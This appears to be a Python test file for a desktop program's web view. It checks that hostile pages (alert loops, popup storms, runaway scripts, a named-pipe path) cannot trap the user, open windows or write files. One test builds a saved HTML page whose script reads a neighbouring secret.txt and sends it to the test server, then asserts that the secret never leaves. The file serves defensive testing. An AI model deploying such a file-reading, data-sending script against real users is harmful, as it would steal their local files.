#!/usr/bin/env python3
"""Hostile pages cannot trap the user, open windows, read files or leave traces on disk."""

import os
import struct
import time
import unittest
import zlib

import harness

SITE = harness.SITE
FIRST_PAGE = "computer_technology.htm"
# A point inside the web view: it lies at 0, 216 in the client area, 882 x 374 pixels.
IN_WEB_VIEW = (400, 500)
GREEN = (0x3A, 0x7D, 0x2C)


def green_png(width, height):
    """A PNG of one colour, made without any imaging library."""
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data +
                struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    row = b"\0" + bytes(GREEN) * width
    return (b"\x89PNG\r\n\x1a\n" +
            chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(row * height)) + chunk(b"IEND", b""))


class HostilePages(unittest.TestCase):
    def start(self, first_page=None):
        aliases = [f"{FIRST_PAGE}={first_page}"] if first_page else []
        self.session = harness.Session(harness.ProgramTest.program_path, aliases)
        self.addCleanup(self.session.close)
        self.program, self.site = self.session.program, self.session.site
        self.window = self.program.window()

    def test_an_alert_loop_does_not_keep_the_program_from_closing(self):
        self.start("hostile/alert_loop.htm")
        box = self.program.window("says$")
        harness.press_keys(box, "Return")  # the next box comes at once
        self.program.window("says$")
        harness.press_keys(self.window, "alt+f", "c")
        self.assertEqual(self.program.wait_for_exit(), 0, self.program.log())

    def test_a_popup_storm_opens_nothing(self):
        self.start("hostile/popup_storm.htm")
        self.site.wait_for_loaded_title("Popup Storm")
        harness.press_keys(self.window, "alt+o", "h")  # Publisher Home, after the storm
        self.site.wait_for_loaded_title("Zelsoft Publisher Home")
        self.assertEqual([line for line in self.site.requests() if "tennis" in line], [])
        self.assertEqual(len(harness.windows_named(self.program.process.pid, "")), 1)

    def test_the_next_page_shows_past_a_runaway_page(self):
        self.start("hostile/runaway.htm")
        self.site.wait_for_loaded_title("Runaway")
        start = time.monotonic()
        harness.press_keys(self.window, "alt+o", "h")  # Publisher Home
        self.site.wait_for_loaded_title("Zelsoft Publisher Home", timeout=15)
        print(f"next page after a runaway one: {time.monotonic() - start:.1f} s")
        self.assertEqual(harness.windows_named(self.program.process.pid, "^ERROR|says$"), [])

    def test_open_refuses_a_pipe_with_the_error_box(self):
        self.start()
        fifo = os.path.join(self.session.workdir, "fifo.htm")
        os.mkfifo(fifo)
        harness.open_file(self.program, self.window, fifo)
        box = self.program.window("^ERROR:  Path/File access error$")
        harness.press_keys(box, "Return")  # Abort, the default
        harness.wait_until("the box to close", lambda: not harness.windows_named(
            self.program.process.pid, "^ERROR: "))
        harness.press_keys(self.window, "alt+o", "h")
        self.site.wait_for_loaded_title("Zelsoft Publisher Home")

    def test_a_whole_session_writes_nothing_but_the_download(self):
        self.start()
        self.site.wait_for_loaded_title("Computer Technology News")
        harness.press_keys(self.window, "alt+h", "a")
        harness.press_keys(self.program.window("^About Zel Tidewell$"), "Escape")

        downloads = os.path.join(self.program.home, "Downloads")
        harness.press_keys(self.window, "alt+o", "t", "Return")
        harness.press_keys(self.program.window("^Save Download$"), "Return")
        target = os.path.join(downloads, "setup.exe")
        harness.wait_until("the completed download", lambda: os.path.exists(target))

        # A saved page shows the picture beside it; its script, which would read the secret
        # beside it, turn the page red and send the secret out, does not run.
        folder = os.path.join(self.session.workdir, "saved")
        os.makedirs(os.path.join(folder, "page_files"))
        with open(os.path.join(folder, "secret.txt"), "w") as f:
            f.write("secret")
        with open(os.path.join(folder, "page_files", "green.png"), "wb") as f:
            f.write(green_png(1200, 600))
        page = os.path.join(folder, "page.htm")
        with open(page, "w") as f:
            f.write("<!DOCTYPE html><title>Saved</title><style>body { margin: 0 }</style>"
                    "<img src='page_files/green.png'><iframe src='secret.txt'></iframe><script>"
                    "document.body.style.background = 'red';"
                    "fetch('secret.txt').then(r => r.text()).then(t => fetch("
                    f"'{SITE}__loaded?title=' + t));</script>")
        harness.open_file(self.program, self.window, page)
        harness.wait_until("the saved page's picture",
                           lambda: harness.client_pixel(*IN_WEB_VIEW) == GREEN, interval=0.1)
        harness.press_keys(self.window, "alt+f", "c")  # File > Close
        self.assertEqual(self.program.wait_for_exit(), 0, self.program.log())
        self.assertFalse(any("secret" in line for line in self.site.requests()))
        written = sorted(os.path.relpath(os.path.join(place, name), self.session.workdir)
                         for top in (self.program.home, self.program.runtime)
                         for place, folders, names in os.walk(top)
                         for name in names + folders)
        self.assertEqual(written, ["home/Downloads", "home/Downloads/setup.exe"])


if __name__ == "__main__":
    harness.main()
